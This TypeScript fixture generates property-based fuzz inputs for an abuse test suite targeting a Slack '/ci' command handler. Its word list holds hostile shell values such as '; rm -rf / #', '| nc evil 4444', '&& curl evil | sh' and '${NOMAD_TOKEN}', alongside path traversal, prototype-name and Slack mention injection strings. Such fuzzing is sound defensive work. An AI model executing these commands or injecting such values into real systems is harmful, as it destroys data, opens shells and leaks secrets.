/**
 * Hostile command text for the abuse suite: unicode (RTL overrides, zero-width, combining marks),
 * control characters, shell metacharacters, path traversal, huge numbers, Slack mentions and
 * mrkdwn / Block Kit injection, and very long words.
 */
import fc from 'fast-check';

/** Words an attacker or a clumsy paste would put where a job, node or count is expected. */
export const NASTY_WORDS = [
  // Names every plain object answers to: a subcommand or flag table must not find Object.prototype's.
  'toString',
  '__proto__',
  'constructor',
  '--constructor',
  '--__proto__=1',
  'hasOwnProperty',
  '../../etc/passwd',
  '..\\..\\windows\\system32',
  '%2e%2e%2fetc%2fpasswd',
  'ci-mesosci-cs8/../../repo',
  '/dev/null',
  '; rm -rf / #',
  '$(reboot)',
  '`id`',
  '| nc evil 4444',
  '&& curl evil | sh',
  '${NOMAD_TOKEN}',
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<!here|here>',
  '<@U0BOB>',
  '<#C0CIOPS>',
  '<!subteam^S0CIADMINS>',
  '<https://evil.example|click me>',
  '```',
  '```<!channel>```',
  '*bold* _it_ ~s~ >quote',
  '{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}',
  '\u202Emesosci-cs8',
  'mesosci\u200B-cs8',
  '\uFEFFmesosci-cs8',
  'mesosci-cs8\u0000',
  '\u001b[31mred',
  '\u0085\u009b',
  'm\u0301e\u0301s\u0301',
  '🚀🔥',
  'ﾒｿｽ',
  '99999999999999999999999999',
  '1e309',
  '-0',
  'NaN',
  'Infinity',
  '0x10',
  '１０',
  '10.',
  '+5',
  '--group',
  '--group=../x',
  '--',
  '-',
  '"',
  "'",
  '“unterminated',
];

const nasty = fc.constantFrom(...NASTY_WORDS);
const unicodeWord = fc.string({ unit: 'binary', minLength: 1, maxLength: 40 });
const hugeNumber = fc.bigInt({ min: 10n ** 15n, max: 10n ** 40n }).map(String);
const anyWord = fc.oneof(
  { weight: 3, arbitrary: nasty },
  { weight: 2, arbitrary: unicodeWord },
  { weight: 1, arbitrary: hugeNumber },
  { weight: 1, arbitrary: fc.constantFrom('mesosci-cs8', 'ci-mesosci-cs8', 'repo', 'alibuild01', '10', '0', '-3') },
);
const separator = fc.constantFrom(' ', '  ', '\t', '\u00a0', '\u3000', '\n');

/** Words after the verb: at least one of them hostile. */
export const hostileArgs = fc.tuple(fc.array(anyWord, { maxLength: 5 }), nasty, fc.nat({ max: 5 })).map(([words, bad, at]) => {
  const out = [...words];
  out.splice(Math.min(at, out.length), 0, bad);
  return out;
});

/** A whole `/ci` line: a known verb (or a hostile one) and hostile words, joined by odd whitespace. */
export function hostileLine(verbs: readonly string[]): fc.Arbitrary<string> {
  const verb = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...verbs) }, { weight: 1, arbitrary: anyWord });
  return fc.tuple(verb, hostileArgs, separator).map(([v, args, sep]) => [v, ...args].join(sep));
}

/** A single very long word (100k characters) of a hostile pattern. */
export const longWord = fc
  .constantFrom('a', '<!channel>', '../', '\u202E', '`', '9')
  .map((unit) => unit.repeat(Math.ceil(100_000 / unit.length)).slice(0, 100_000));
